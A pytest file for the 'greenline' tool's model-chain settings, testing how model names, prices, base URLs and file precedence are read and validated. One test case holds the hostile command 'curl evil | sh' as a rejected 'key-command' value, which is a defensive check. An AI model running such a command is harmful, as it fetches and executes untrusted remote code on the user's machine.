from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from greenline.adapters.model_chain_files import model_chain
from greenline.domain.asking.chain import Chain, Written, chain_of, read_models
from greenline.domain.asking.list_prices import DEFAULT_CHAIN, LIST
from greenline.domain.asking.model import ModelChoice, Price

LOCAL = ModelChoice("qwen-local", 0, Price(0.0, 0.0), 8_000)


def test_a_table_names_models_their_order_and_prices() -> None:
    written = read_models(
        {
            "base-url": "https://gateway.example",
            "models": [
                "claude-sonnet-5-5",
                {
                    "name": "claude-opus-5-5",
                    "priority": 7,
                    "price": {"input": 4, "output": 20.5, "cache-read": 1},
                    "max-output": 16_000,
                },
            ],
        },
        "greenline.toml",
    )
    assert written == Written(
        (
            ModelChoice("claude-sonnet-5-5", 0),
            ModelChoice("claude-opus-5-5", 7, Price(4.0, 20.5, cache_read=0.25), 16_000),
        ),
        "https://gateway.example",
        (),
        "greenline.toml",
    )


@pytest.mark.parametrize(
    ("table", "names", "problem"),
    [
        ({"models": "claude"}, [], "`models` is not a list"),
        ({"models": [3, "b"]}, ["b"], "number 1 of `models` has no name"),
        ({"models": [{"priority": 1}]}, [], "number 1 of `models` has no name"),
        ({"models": ["a", {"name": "a"}]}, ["a"], "`a` is named twice"),
        ({"models": [{"name": "a", "priority": True}]}, ["a"], "`priority` of a is no whole number"),
        (
            {"models": [{"name": "a", "max-output": 10}]},
            ["a"],
            "`max-output` of a is no whole number of at least 2,000",
        ),
        ({"models": [{"name": "a", "prize": 1}]}, ["a"], "`prize` of a is not known"),
        ({"models": [{"name": "a", "price": 3}]}, ["a"], "`price` of a needs `input` and `output`"),
        ({"models": [{"name": "a", "price": {"input": 3}}]}, ["a"], "`price` of a needs `input` and `output`"),
        (
            {"models": [{"name": "a", "price": {"input": -1, "output": 1}}]},
            ["a"],
            "`price` of a needs `input` and `output`, and may have `cache-read`: dollars per million tokens, none be",
        ),
        ({"modles": ["a"]}, [], "`modles` is not known; `models` and `base-url` are"),
        ({"models": [{"name": "a", "price": {"input": float("nan"), "output": 1}}]}, ["a"], "`price` of a needs"),
        (
            {"models": [{"name": "a", "price": {"input": 1, "output": 1, "cache-read": "x"}}]},
            ["a"],
            "`cache-read` in the price of a is no number of dollars",
        ),
        ({"base-url": "gateway.example"}, [], "`base-url` is no address"),
        ({"base-url": 3}, [], "`base-url` is no address"),
        ({"key-command": "curl evil | sh"}, [], "`key-command` is not read: a file of a project has no say in keys"),
    ],
)
def test_what_cannot_be_meant_is_said_and_left_out(table: dict[str, Any], names: list[str], problem: str) -> None:
    written = read_models(table, "greenline.toml")
    assert [choice.name for choice in written.models] == names
    assert all(choice.price is None and choice.max_output is None for choice in written.models)
    assert written.base_url == ""
    (said,) = written.problems
    assert said.startswith(f"greenline.toml: {problem}")
    assert said.endswith(".")


def test_the_projects_file_counts_before_the_persons_and_that_before_the_list() -> None:
    project = Written((ModelChoice("claude-opus-5-5"),), source="greenline.toml")
    own = Written((LOCAL,), source="/home/me/greenline.toml")
    assert chain_of(Written(), Written()) == Chain()
    assert chain_of(Written(), own) == Chain((LOCAL,), source="/home/me/greenline.toml")
    both = chain_of(project, own)
    assert both.models == (ModelChoice("claude-opus-5-5", 0, LIST["claude-opus-5-5"]),)
    assert both.source == "greenline.toml"


def test_the_one_that_is_named_is_the_chain() -> None:
    own = Written((LOCAL,), source="mine")
    assert chain_of(Written(), own, "claude-opus-5").models == (ModelChoice("claude-opus-5", 0, LIST["claude-opus-5"]),)
    assert chain_of(Written(), own, "qwen-local") == Chain((LOCAL,), source="model.name")
    assert chain_of(Written(), own, "unheard-of").models == (ModelChoice("unheard-of"),)


def test_a_project_makes_no_model_cheaper_but_the_person_may() -> None:
    cheap, dear = Price(0.0, 0.0), Price(9.0, 9.0)
    project = Written(
        (ModelChoice("claude-sonnet-5-5", 0, cheap), ModelChoice("claude-opus-5-5", 1, dear), LOCAL), source="p"
    )
    prices = [choice.price for choice in chain_of(project, Written()).models]
    assert prices == [LIST["claude-sonnet-5-5"], Price(9.0, 20.0, cache_read=0.1), LOCAL.price]
    own = Written((ModelChoice("claude-sonnet-5-5", 0, Price(1.0, 5.0)),), source="mine")
    assert chain_of(project, own).models[0].price == Price(1.0, 5.0)


# Files


@pytest.fixture
def own(tmp_path: Path) -> Path:
    return tmp_path / "home" / "greenline.toml"


def test_without_any_file_the_known_models_are_asked(tmp_path: Path, own: Path) -> None:
    assert model_chain(tmp_path, own=own) == Chain(DEFAULT_CHAIN)


def test_a_file_of_its_own_counts_before_pyproject(tmp_path: Path, own: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[tool.greenline]\nmodels = ["from-pyproject"]\n')
    chain = model_chain(tmp_path, own=own)
    assert [choice.name for choice in chain.models] == ["from-pyproject"]
    assert chain.source == "[tool.greenline] in pyproject.toml"
    (tmp_path / "greenline.toml").write_text('[[models]]\nname = "of-its-own"\nprice = { input = 1, output = 2 }\n')
    assert model_chain(tmp_path, own=own).models == (ModelChoice("of-its-own", 0, Price(1.0, 2.0)),)
    assert [choice.name for choice in model_chain(tmp_path, "chosen", own=own).models] == ["chosen"]


def test_the_address_is_the_projects_wish_only(tmp_path: Path, own: Path) -> None:
    own.parent.mkdir()
    own.write_text('base-url = "https://mine.example"\n')
    assert model_chain(tmp_path, own=own).base_url == ""
    (tmp_path / "greenline.toml").write_text('base-url = "https://theirs.example"\n')
    assert model_chain(tmp_path, own=own).base_url == "https://theirs.example"


def test_a_broken_file_is_said(tmp_path: Path, own: Path) -> None:
    (tmp_path / "greenline.toml").write_text("models = [")
    chain = model_chain(tmp_path, own=own)
    assert chain.models == DEFAULT_CHAIN
    (problem,) = chain.problems
    assert problem.startswith("greenline.toml cannot be read: ")
    assert "(at " in problem, "where, in the parser's words"
    assert problem.endswith(". Correct it: until then it names no models.")
    (tmp_path / "greenline.toml").unlink()
    (tmp_path / "greenline.toml").mkdir()
    (problem,) = model_chain(tmp_path, own=own).problems
    assert problem.startswith("greenline.toml cannot be read: ")
    assert "Errno" not in problem


def test_a_broken_pyproject_is_said_where_it_has_models(tmp_path: Path, own: Path) -> None:
    pyproject = tmp_path / "pyproject.toml"
    pyproject.write_text("[project\n")
    assert model_chain(tmp_path, own=own).problems == (), "that is said by others"
    pyproject.write_text('[tool.greenline]\nmodels = ["a", \n')
    (problem,) = model_chain(tmp_path, own=own).problems
    assert problem.startswith("pyproject.toml cannot be read: ")


def test_what_is_wrong_with_one_file_leaves_the_other(tmp_path: Path, own: Path) -> None:
    own.parent.mkdir()
    own.write_text('[[models]]\nname = "mine"\n')
    (tmp_path / "greenline.toml").write_text("models = [")
    chain = model_chain(tmp_path, own=own)
    assert [choice.name for choice in chain.models] == ["mine"]
    assert len(chain.problems) == 1
